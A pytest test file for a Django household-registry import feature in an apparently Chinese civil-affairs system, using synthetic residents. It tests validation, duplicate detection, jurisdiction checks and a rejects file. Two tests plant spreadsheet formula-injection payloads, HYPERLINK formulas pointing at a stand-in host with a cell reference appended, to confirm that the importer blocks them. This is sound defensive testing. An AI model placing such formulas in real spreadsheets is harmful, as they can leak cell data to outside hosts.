import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from conftest import make_id_number
from minzheng.core.models import AuditEntry
from minzheng.registry import importing
from minzheng.registry.models import (
    DisabilityCertificate,
    Household,
    HouseholdMembership,
    ImportRun,
    Person,
)


def _csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=importing.HEADERS)
    writer.writeheader()
    for row in rows:
        writer.writerow({h: row.get(h, "") for h in importing.HEADERS})
    return out.getvalue().encode("utf-8-sig")


def _row(key: str, relation: str, name: str, birth: dt.date, **extra: str) -> dict[str, str]:
    return {
        "户编号": key, "与户主关系": relation, "姓名": name, "身份证号码": make_id_number(birth),
        "本市户籍": "是", "居住居村委代码": "310117001001", "居住地址": f"谷阳北路{key}号", **extra,
    }


def _family(key: str) -> list[dict[str, str]]:
    return [
        _row(key, "本人", "陈国强", dt.date(1960, 2, 3), **{"家庭货币财产（元）": "12000.50", "家庭住房套数": "1"}),
        _row(key, "配偶", "林秀英", dt.date(1962, 8, 9), **{"残疾等级": "2", "残疾类别": "肢体", "残疾证有效期起": "2019-01-01"}),
        _row(key, "子女", "陈晨", dt.date(1990, 12, 1), **{"就业状况": "在职", "月均收入（元）": "6500"}),
    ]


@pytest.mark.django_db
def test_good_file_imports_households_members_and_certificates(users):
    report = importing.registry_import(actor=users["bureau"], filename="ok.csv", content=_csv(_family("H1") + _family("H2")))
    assert report.ok and report.committed
    assert (report.imported_persons, report.imported_households) == (6, 2)
    assert Household.objects.count() == 2
    assert HouseholdMembership.objects.filter(end_date__isnull=True).count() == 6
    assert DisabilityCertificate.objects.count() == 2
    head = Person.objects.get(name="陈国强", memberships__household__address="谷阳北路H1号")
    assets = head.memberships.get().household.asset_facts.get()
    assert (assets.monetary_assets_fen, assets.origin) == (1200050, "declared")
    income = Person.objects.get(name="陈晨", memberships__household__address="谷阳北路H1号").income_facts.get()
    assert income.earned_fen + income.other_fen == 650000
    assert AuditEntry.objects.filter(action="registry.import").count() == 1


@pytest.mark.django_db
def test_any_bad_row_imports_nothing_and_reports_row_column_reason(users):
    rows = _family("H1") + _family("H2")
    rows[1]["身份证号码"] = rows[1]["身份证号码"][:-1] + ("1" if rows[1]["身份证号码"][-1] != "1" else "2")
    rows[4]["月均收入（元）"] = "-5"
    rows[5]["居住居村委代码"] = "310117999999"
    report = importing.registry_import(actor=users["bureau"], filename="bad.csv", content=_csv(rows))
    assert not report.committed
    assert Person.objects.count() == 0 and Household.objects.count() == 0
    found = {(p.row, p.column) for p in report.problems}
    assert (3, "身份证号码") in found          # header is row 1, so rows[1] is row 3
    assert (6, "月均收入（元）") in found
    assert (7, "居住居村委代码") in found
    texts = [p.as_text() for p in report.problems]
    assert any("校验位错误" in t for t in texts)
    assert any("金额不能为负数" in t for t in texts)
    assert ImportRun.objects.get().rejected_rows == len(report.rejected_rows)


@pytest.mark.django_db
def test_skip_bad_imports_good_households_and_rejects_bad_ones_whole(users):
    rows = _family("H1") + _family("H2")
    rows[4]["残疾类别"] = "其他"  # a member of H2 is bad, so all of H2 is held back
    report = importing.registry_import(actor=users["bureau"], filename="mixed.csv", content=_csv(rows), skip_bad=True)
    assert report.committed
    assert (report.imported_persons, report.imported_households) == (3, 1)
    assert report.rejected_rows == [5, 6, 7]
    assert Household.objects.get().address == "谷阳北路H1号"


@pytest.mark.django_db
def test_duplicates_within_file_and_against_registry(users, make_person):
    existing = make_person("老住户", dt.date(1950, 1, 1))
    from minzheng.registry.services import person_reveal_id_number

    number = person_reveal_id_number(actor=users["bureau"], person=existing)
    rows = _family("H1")
    rows[2]["身份证号码"] = rows[1]["身份证号码"]
    rows.append(_row("H3", "本人", "老住户", dt.date(1950, 1, 1), **{"身份证号码": number}))
    report = importing.registry_import(actor=users["bureau"], filename="dup.csv", content=_csv(rows))
    messages = [p.as_text() for p in report.problems]
    assert any("第4行" in m and "与第3行的身份证号码重复" in m for m in messages)
    assert any("第5行" in m and "已登记为“老住户”" in m for m in messages)


@pytest.mark.django_db
def test_household_needs_exactly_one_head(users):
    rows = _family("H1")
    rows[0]["与户主关系"] = "配偶"
    report = importing.registry_import(actor=users["bureau"], filename="nohead.csv", content=_csv(rows))
    assert any("有且只有一个“本人”" in p.message for p in report.problems)


@pytest.mark.django_db
def test_committee_outside_scope_is_a_row_problem(users):
    rows = _family("H1")
    for r in rows:
        r["居住居村委代码"] = "310117102201"
    report = importing.registry_import(actor=users["street"], filename="scope.csv", content=_csv(rows))
    assert not report.committed
    assert all(p.message == "该居村委不在您的辖区内" for p in report.problems if p.column == "居住居村委代码")


@pytest.mark.django_db
def test_xlsx_template_round_trip(users):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(importing.template_xlsx()))
    sheet = book["人员导入"]
    assert [c.value for c in sheet[1]] == importing.HEADERS
    sheet.delete_rows(2)
    for r in _family("H9"):
        sheet.append([r.get(h, "") for h in importing.HEADERS])
    out = io.BytesIO()
    book.save(out)
    report = importing.registry_import(actor=users["bureau"], filename="f.xlsx", content=out.getvalue())
    assert report.committed and report.imported_persons == 3


@pytest.mark.django_db
def test_file_level_errors_are_clear(users):
    with pytest.raises(importing.ImportFileError, match="只支持"):
        importing.registry_import(actor=users["bureau"], filename="x.pdf", content=b"%PDF")
    with pytest.raises(importing.ImportFileError, match="缺少必填列"):
        importing.registry_import(actor=users["bureau"], filename="x.csv", content="姓名\n张三\n".encode())


@pytest.mark.django_db
def test_cli_strict_and_skip_bad_with_rejects_file(users, tmp_path):
    rows = _family("H1") + _family("H2")
    rows[3]["姓名"] = ""
    path = tmp_path / "people.csv"
    path.write_bytes(_csv(rows))
    with pytest.raises(CommandError, match="未导入任何数据"):
        call_command("registry_import", str(path), "--as", "bureau")
    assert Person.objects.count() == 0
    out = io.StringIO()
    call_command("registry_import", str(path), "--as", "bureau", "--skip-bad", stdout=out, stderr=io.StringIO())
    assert "已导入 3 人、1 户" in out.getvalue()
    rejects = list(csv.reader((tmp_path / "people.csv.rejects.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert rejects[0][0] == "行号" and rejects[0][-1] == "错误原因"
    assert [r[0] for r in rejects[1:]] == ["5", "6", "7"]
    assert "必填项为空" in rejects[1][-1]


@pytest.mark.django_db
def test_a_formula_cell_is_reported_as_a_formula_and_nothing_is_imported(users):
    from openpyxl import load_workbook

    from minzheng.registry.models import Person

    book = load_workbook(io.BytesIO(importing.template_xlsx()))
    sheet = book["人员导入"]
    sheet.delete_rows(2)
    for r in _family("H9"):
        sheet.append([r.get(h, "") for h in importing.HEADERS])
    sheet.cell(row=3, column=importing.HEADERS.index("姓名") + 1).value = '=HYPERLINK("http://x.example","查看")'
    out = io.BytesIO()
    book.save(out)
    before = Person.objects.count()
    with pytest.raises(importing.ImportFileError, match="第3行第.列：该单元格是公式"):
        importing.registry_import(actor=users["bureau"], filename="f.xlsx", content=out.getvalue())
    assert Person.objects.count() == before


@pytest.mark.django_db
def test_the_rejects_file_does_not_carry_a_formula_back_to_excel(users, tmp_path):
    rows = _family("H1")
    rows[1]["姓名"] = '=HYPERLINK("http://x.example/?"&A1,"点此")'
    rows[2]["姓名"] = ""  # a bad row rejects the whole household, the formula row with it
    rows += _family("H2")
    path = tmp_path / "people.csv"
    path.write_bytes(_csv(rows))
    call_command("registry_import", str(path), "--as", "bureau", "--skip-bad", stdout=io.StringIO(),
                 stderr=io.StringIO())
    rejects = list(csv.reader((tmp_path / "people.csv.rejects.csv").read_text(encoding="utf-8-sig").splitlines()))
    names = [r[1 + importing.HEADERS.index("姓名")] for r in rejects[1:]]
    assert "'" + rows[1]["姓名"] in names and not any(n.startswith("=") for n in names)
